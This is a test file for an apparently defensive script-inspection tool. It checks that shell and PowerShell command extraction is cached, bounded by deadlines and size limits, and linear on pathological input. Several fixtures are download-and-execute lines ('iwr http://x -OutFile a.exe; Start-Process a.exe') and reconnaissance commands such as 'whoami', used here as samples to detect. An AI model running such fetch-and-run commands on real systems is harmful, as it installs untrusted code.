"""The package entry points: extract_commands over any shell, commands_of once per payload, and
extraction that stays linear on hostile input."""

from __future__ import annotations

import hashlib
import time
from collections.abc import Callable

import pytest

from inspector.commands import Shell, commands_of, extract_commands, shell_of
from inspector.model import Artifact, ArtifactType
from inspector.stage import Payload, ScanContext, ScanLimits
from tests.timing import growth as cpu_growth


def payload(text: str, type_: ArtifactType) -> Payload:
    data = text.encode()
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=type_, origin="test", depth=0)
    return Payload(artifact=artifact, data=data, text=text)


def test_commands_of_a_script_payload_are_extracted_once_and_shared() -> None:
    script = payload("iwr http://x -OutFile a.exe; Start-Process a.exe", ArtifactType.POWERSHELL)
    ctx = ScanContext(limits=ScanLimits())
    first = commands_of(script, ctx)
    assert [c.program for c in first] == ["invoke-webrequest", "start-process"]
    assert commands_of(script, ctx) is first


def test_only_shell_scripts_have_commands() -> None:
    assert shell_of(payload("x", ArtifactType.SHELL)) is Shell.SHELL
    assert shell_of(payload("x", ArtifactType.CMD)) is Shell.CMD
    assert commands_of(payload("import os; os.system('id')", ArtifactType.PYTHON), ScanContext(limits=ScanLimits())) == []


def test_an_expired_scan_extracts_nothing() -> None:
    now = [0.0]
    ctx = ScanContext(limits=ScanLimits(), clock=lambda: now[0])
    now[0] += 10 * ScanLimits().deadline_s  # the scan's own clock is past its deadline
    assert commands_of(payload("whoami", ArtifactType.CMD), ctx) == []


@pytest.mark.parametrize("shell", list(Shell))
def test_max_commands_bounds_the_result(shell: Shell) -> None:
    assert len(extract_commands("a | " * 10_000 + "a", shell, max_commands=50)) == 50


@pytest.mark.parametrize("shell", list(Shell))
def test_a_passed_deadline_stops_the_extraction(shell: Shell) -> None:
    assert extract_commands("whoami\n" * 100_000, shell, deadline=time.monotonic() - 1) == []


def test_ten_megabytes_are_read_only_as_far_as_the_parse_limit() -> None:
    big = "Write-Host 'x'\n" * 700_000
    found = extract_commands(big, Shell.POWERSHELL, max_commands=10**7, max_parse_chars=15 * 1000)
    assert len(found) == 1000


def growth(build: Callable[[int], str], shell: Shell, small: int) -> float:
    """CPU time of 10x the input over CPU time of the input, measured in this run (no absolute
    bound, and the thread's CPU time does not grow when other processes take the cores)."""
    texts = {n: build(n) for n in (small, small * 10)}
    return cpu_growth(lambda n: extract_commands(texts[n], shell, max_commands=10**7, max_parse_chars=10**8), small)


HOSTILE: dict[str, Callable[[int], str]] = {
    "pipes": lambda n: "a | " * n + "a",
    "nesting": lambda n: "(" * n + "a" + ")" * n,
    "substitutions": lambda n: "$(" * n + "a" + ")" * n,
    "script blocks": lambda n: "& {" * n + "a" + "}" * n,
    # (long enough that the small input is past the processor caches' sizes, where time jumps)
    "one long line": lambda n: "x" * (n * 500),
    "nested shells": lambda n: "cmd /c " * n + "whoami",
}


@pytest.mark.parametrize("shell", list(Shell))
@pytest.mark.parametrize("shape", list(HOSTILE))
def test_hostile_inputs_grow_linearly(shell: Shell, shape: str) -> None:
    assert growth(HOSTILE[shape], shell, small=1000) < 30


def test_a_powershell_payload_is_parsed_once_by_the_layer_and_the_extractor(monkeypatch: pytest.MonkeyPatch) -> None:
    from inspector.deobfuscate import powershell as ps_layer
    from inspector.deobfuscate.powershell import PowerShellLayer

    text = "$u = 'http://x/' + 'a.exe'; iwr $u -OutFile a.exe; Start-Process a.exe"
    alone = commands_of(payload(text, ArtifactType.POWERSHELL), ScanContext(limits=ScanLimits()))
    parses: list[bytes] = []
    real = ps_layer.parse_until
    monkeypatch.setattr(ps_layer, "parse_until", lambda parser, source, deadline=None: (
        parses.append(source), real(parser, source, deadline))[1])
    shared = payload(text, ArtifactType.POWERSHELL)
    ctx = ScanContext(limits=ScanLimits())
    PowerShellLayer().analyze(shared, ctx)
    commands = commands_of(shared, ctx)
    assert parses == [text.encode()]
    assert commands == alone
    assert [c.program for c in commands] == ["invoke-webrequest", "start-process"]


def test_a_shared_tree_is_used_only_for_the_exact_text_it_was_parsed_from() -> None:
    from inspector.deobfuscate.powershell import parse_powershell

    trees: dict[bytes, object] = {}
    other = parse_powershell(b"Remove-Item x", parsed=trees)  # type: ignore[arg-type]
    commands = extract_commands("iwr http://x -OutFile a.exe", Shell.POWERSHELL, trees=trees)
    assert [c.program for c in commands] == ["invoke-webrequest"]
    assert set(trees) == {b"Remove-Item x", b"iwr http://x -OutFile a.exe"}
    assert trees[b"Remove-Item x"] is other
